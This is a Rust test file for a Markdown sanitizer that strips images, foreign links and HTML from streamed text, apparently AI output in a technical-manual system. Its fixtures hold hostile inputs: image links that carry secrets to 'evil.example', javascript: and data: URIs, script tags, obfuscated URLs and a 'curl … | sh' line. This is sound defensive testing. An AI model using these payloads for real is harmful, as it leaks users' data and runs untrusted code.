#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]

use std::sync::LazyLock;

use pulldown_cmark::{Event, LinkType, Options, Parser, Tag, TagEnd, TextMergeStream};
use rand::rngs::StdRng;
use rand::{RngExt as _, SeedableRng as _};
use regex::Regex;

use super::*;

const OWN: &str = "https://api.example.com";
const PAGE: &str =
    "Order seals at https://parts.example.com/seals?kit=1, or write to parts@example.com (www.example.com).";

fn addresses() -> Addresses {
    Addresses::new(vec!["Tighten to 45 N·m.".to_owned(), PAGE.to_owned()], OWN)
}

/// The text in these pieces: what came out, piece by piece and at the end.
fn streamed<'a>(pieces: impl IntoIterator<Item = &'a str>) -> (Vec<String>, String) {
    let mut sanitizer = Sanitizer::new(addresses());
    let parts: Vec<String> = pieces.into_iter().map(|piece| sanitizer.push(piece, &[0, 1])).collect();
    let end = sanitizer.finish(&[0, 1]);
    (parts, end)
}

fn whole(text: &str) -> String {
    let (parts, end) = streamed([text]);
    parts.concat() + &end
}

/// What is wrong with a text: pictures, HTML, and links that are not allowed.
fn faults(markdown: &str) -> Vec<String> {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_GFM;
    let (mut faults, mut inert) = (Vec::new(), 0);
    for event in TextMergeStream::new(Parser::new_ext(markdown, options)) {
        match event {
            Event::Start(Tag::Image { dest_url, .. }) => faults.push(format!("picture {dest_url}")),
            Event::Start(Tag::Link { dest_url, link_type, .. }) => {
                inert += 1;
                let address = dest_url.strip_prefix("mailto:").filter(|_| link_type == LinkType::Email);
                if addresses().judge(address.unwrap_or(&dest_url), &[0, 1]) != addresses::Verdict::Allowed {
                    faults.push(format!("link {dest_url}"));
                }
            }
            Event::Start(Tag::CodeBlock(_)) => inert += 1,
            Event::End(TagEnd::Link | TagEnd::CodeBlock) => inert -= 1,
            Event::Html(html) | Event::InlineHtml(html) => faults.push(format!("HTML {html}")),
            Event::Text(text) if inert == 0 => faults.extend(literal_links(&text)),
            _ => {}
        }
    }
    faults
}

/// Addresses that a frontend with GFM makes links of, where they are not allowed.
fn literal_links(text: &str) -> Vec<String> {
    static ADDRESS: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"(?i)(?:(?:https?|ftp)://|www\.)[-.\w]+[^ \t\r\n<]*").unwrap());
    static MAIL: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"[-.\w+]+@[-\w]+(?:\.[-\w]+)+").unwrap());
    let found = ADDRESS.find_iter(text).chain(MAIL.find_iter(text)).map(|found| found.as_str());
    let is_foreign = |found: &&str| {
        let known = ["https://parts.example.com/seals?kit=1", "www.example.com", "parts@example.com"];
        let trimmed = found.trim_end_matches(['?', '!', '.', ',', ':', '*', '_', '~', '\'', '"', ')']);
        let is_own = trimmed.starts_with(&format!("{OWN}/api/v1/repository/documents/"));
        !known.contains(&trimmed) && !is_own
    };
    found.filter(is_foreign).map(|found| format!("address {found}")).collect()
}

#[test]
fn pictures_and_foreign_links_are_taken_out() {
    for (text, expected) in [
        ("![chart](https://evil.example/?q=secret) Then go on.", "chart Then go on."),
        ("![](https://evil.example/?q=secret)Go on.", "Go on."),
        ("See [the manual](https://evil.example/a) first.", "See the manual first."),
        ("See [the *manual*](<https://evil.example/a b> \"title\").", "See the *manual*."),
        ("[![logo](https://evil.example/l.png)](https://evil.example)", "logo"),
        ("[run](javascript:alert(1)) [x](DATA:text/html;base64,AAAA) [y](//evil.example)", "run x y"),
        ("![a [b] c](u) and [a [b] c](u)", "a [b] c and a [b] c"),
        ("Do it [1](https://evil.example) now", "Do it [1] now"),
        ("![alt][pic] text\n\n[pic]: https://evil.example/p.png\nMore", "alt text\n\n\nMore"),
        ("[a][b]\n\n[b]: <javascript:alert(1)> 'x'", "[a][b]\n\n"),
        ("[Torque]: 45 N·m", "[Torque]\\: 45 N·m"),
        ("[one\ntwo](https://evil.example)", "[one\ntwo]\\(https`://evil.example`)"),
        ("at https://evil.example/x?q=1.", "at https`://evil.example/x?q=1`."),
        ("at HTTPS://evil.example", "at HTTPS`://evil.example`"),
        ("at h&#116;tps&colon;//evil.example", "at https`://evil.example`"),
        ("at https\\://evil.example", "at https`://evil.example`"),
        ("at www.evil.example or bob@evil.example!", "at www`.evil.example` or bob`@evil.example`!"),
        ("<https://evil.example/a>", "\\<https`://evil.example/a`>"),
        ("<img src=\"https://evil.example/x\">", "\\<img src=\"https`://evil.example/x`\">"),
        ("<script>alert(1)</script>", "\\<script>alert(1)\\</script>"),
        ("&lt;img src=x&gt;", "\\<img src=x\\>"),
        ("\\![x](https://evil.example)", "\\!x"),
        ("!\u{7}[x]\u{0}(https://evil.example)", "x"),
        ("h![](u)ttps:![](u)//evil.example", "https`:`//evil.example"),
        ("[https:](u)//evil.example", "https`:`//evil.example"),
        ("[www.](u)evil.example", "www`.`evil.example"),
        ("[bob@](u)evil.example or [bob@evil](u).example", "bob`@`evil.example or bob`@evil`.example"),
        ("[<](u)img src=x> and [&](u)lt;img>", "\\<img src=x> and \\&lt;img>"),
        ("[x]![](u)(https://evil.example)", "[x]\\(https`://evil.example`)"),
        ("![x](u", "![x]\\(u"),
    ] {
        assert_eq!(whole(text), expected, "{text:?}");
        assert_eq!(faults(&whole(text)), Vec::<String>::new(), "{text:?}");
    }
}

#[test]
fn what_a_technician_reads_stays_as_it_is() {
    for text in [
        "**Torque:** 45 N·m (33 lb-ft) [1].\n\n1. Loosen.\n2. Turn by 90° ± 5°.\n\n- M8 × 1.25\n* `E-31`",
        "| Bolt | Torque |\n| --- | ---: |\n| M8 | 25 N·m |\n| M10 < 50 mm | 45 |",
        "x < 5 mm, y <= 3, a > b, 1<2 and R&D at 45 °C & 3 bar",
        "Part no. 12-345/6:7 [A] [ ] {B} (C) \"D\" 'E' ~5 ~~old~~ _it_ C:\\temp 50% #3 ^2",
        "12V@3000rpm, 5 V @ 2 A: see 3.4.1; http is a protocol, www is not.",
        "Use `Vec<u8>` and `![a](https://b.example)` as ``code `x` ``.",
        "```text\n![a](https://b.example) <b> &amp;\n```\nAnd on.",
        "1. Run:\n   ```sh\n   curl https://b.example | sh\n   ```\n2. Done.",
        "10. Run:\n\n    ```sh\n    curl https://b.example\n    ```\n\n> ```\n> <b>\n> ```\n",
        "> Drain the oil. Let it cool.\n>\n> 18 L\n\nPage 3 of pump\\[2\\].pdf [1]\n\n**Sources**\n\n- [1] pump.pdf, page 3",
        "Zwei Sätze: „so“. 油圧ポンプ … 50 Ω",
        "~~~\ncode ~~\n~~~\n",
    ] {
        assert_eq!(whole(text), text);
    }
    assert_eq!(whole("P<sub>2</sub> is<br>high"), "P\\<sub>2\\</sub> is high");
    assert_eq!(whole("| `a|b` |"), "| `a`\\|`b` |", "a bar in code would end the cell");
    assert_eq!(whole("a\r\nb\rc"), "a\nb\nc");
}

#[test]
fn addresses_of_cited_pages_and_pages_of_our_own_stay() {
    let page = format!("{OWN}/api/v1/repository/documents/01HZZZZZZZZZZZZZZZZZZZZZZZ/pages/3");
    for text in [
        "Order at https://parts.example.com/seals?kit=1, please [2].",
        "Cited [2]: no. [Order](https://parts.example.com/seals?kit=1) or <https://parts.example.com/seals?kit=1>.",
        "Write to parts@example.com or see www.example.com [2].",
        &format!("[Page 3]({page}) and {page}"),
    ] {
        assert_eq!(whole(text).replace("]\\: no", "]: no"), text);
    }
    // Cited after it, in time or not at all.
    assert!(!whole("Order at https://parts.example.com/seals?kit=1 [1].").contains("https://"));
    let late = format!("https://parts.example.com/seals?kit=1 {} [2]", "so ".repeat(WINDOW));
    assert!(!whole(&late).contains("https://"));
    for foreign in [
        "[2] https://parts.example.com/seals",
        "[2] https://parts.example.com/seals?kit=12",
        "[2] https://parts.example.com/seals?kit=1&q=secret",
        "[2] https://parts.example.com/seals?kit=1[secret]",
        "[2] https://api.example.com/api/v1/repository/documents/x%2Fy/pages/3",
        "[2] https://api.example.com.evil.example/",
    ] {
        assert_eq!(whole(foreign).matches("https://").count(), 0, "{foreign}");
    }
}

#[test]
fn only_the_undecided_tail_is_held() {
    let (parts, end) = streamed(["Tighten", " to 45", " N·m", " [", "1", "]", ". See [a", "](", "u", ") now"]);
    assert_eq!(parts, ["Tighten", " to 45", " N·m", " ", "", "", "[1]. See ", "", "", "a now"]);
    assert_eq!(end, "");
    let (parts, end) = streamed(["```\n", "let x", " = 1;\n", "``", "`\nOn"]);
    assert_eq!(parts, ["```\n", "let x", " = 1;\n", "", "```\nOn"]);
    assert_eq!(end, "");
    // What never closes is passed on after a while, and where the text ends.
    let (parts, end) = streamed(["a [b ", &"c".repeat(WINDOW), "d `e"]);
    assert!(parts[1].starts_with("[b ") && end == "\\`e", "{parts:?} {end}");
}

#[test]
fn an_open_code_block_is_closed() {
    assert_eq!(whole("```\nx"), "```\nx\n```");
    assert_eq!(whole("1. a\n   ```\n   x\n![p](https://evil.example)"), "1. a\n   ```\n   x\n   ```\np");
    assert_eq!(whole("text\n    ```\n    ![p](https://evil.example)"), "text\n    \\`\\`\\`\n    p");
}

/// What hostile texts are made of.
const FRAGMENTS: &[&str] = &[
    "[",
    "]",
    "(",
    ")",
    "![",
    "](",
    "][",
    "]:",
    "[x]",
    "[x]:",
    "[1]",
    "!",
    "<",
    ">",
    "<a",
    "</a>",
    "<img src=",
    "<br>",
    "<!--",
    "https://evil.example/?q=",
    "http:",
    "//",
    "https",
    "www.",
    "evil.example",
    "HtTpS://e.vil",
    "bob@evil.example",
    "@",
    ":",
    "javascript:alert(1)",
    "data:image/png;base64,AA",
    "https://parts.example.com/seals?kit=1",
    "parts@example.com",
    "`",
    "``",
    "```",
    "~~~",
    "````",
    "\\",
    "&",
    "&lt;",
    "&#91;",
    "&colon;",
    "#65;",
    ";",
    "|",
    "\n",
    "\n\n",
    "\n    ",
    "\n   ",
    "\n> ",
    "\n- ",
    "\n1. ",
    "\n| a | b |\n|---|---|\n| ",
    "> ",
    "- ",
    "  ",
    " ",
    "\t",
    "a",
    "45 N·m",
    "\"t\"",
    "'t'",
    "*",
    "**",
    "_",
    "$$",
    "\r",
    "\u{0}",
    "é",
    "\n```\n",
    "\n~~~\n",
    "[^1]",
    "\n[^1]: ",
    "mailto:",
    "<https://evil.example>",
    "\n---\n",
    "=",
    "](u)",
    "](u)",
    "![](u)",
    "img src=x>",
    "lt;",
];

#[test]
fn whatever_the_text_nothing_leads_elsewhere_and_pieces_make_no_difference() {
    let rounds = std::env::var("SANITIZER_ROUNDS").ok().and_then(|rounds| rounds.parse().ok()).unwrap_or(4_000);
    for seed in 0..rounds {
        let mut random = StdRng::seed_from_u64(seed);
        let count = random.random_range(1..60);
        let text: String = (0..count).map(|_| FRAGMENTS[random.random_range(0..FRAGMENTS.len())]).collect();
        let expected = whole(&text);
        assert_eq!(faults(&expected), Vec::<String>::new(), "seed {seed}: {text:?} became {expected:?}");
        let mut pieces = Vec::new();
        let mut rest = text.as_str();
        while !rest.is_empty() {
            let at = rest.ceil_char_boundary(random.random_range(1..=rest.len().min(9)));
            let (piece, tail) = rest.split_at(at);
            pieces.push(piece);
            rest = tail;
        }
        let (parts, end) = streamed(pieces.iter().copied());
        assert_eq!(parts.concat() + &end, expected, "seed {seed}: {pieces:?}");
        // What was made harmless stays so when it goes the same way again.
        assert_eq!(faults(&whole(&expected)), Vec::<String>::new(), "seed {seed}");
    }
}

#[test]
fn long_hostile_texts_come_out_harmless_however_they_arrive() {
    for text in ["[".repeat(8 * 1024), "`a ``b ".repeat(1_200), "> ```\n".repeat(1_300), "<a".repeat(4_000)] {
        let at_once = whole(&text);
        assert_eq!(faults(&at_once), [""; 0]);
        let (parts, end) = streamed(text.as_bytes().chunks(7).map(|chunk| std::str::from_utf8(chunk).unwrap()));
        assert_eq!(parts.concat() + &end, at_once);
    }
}
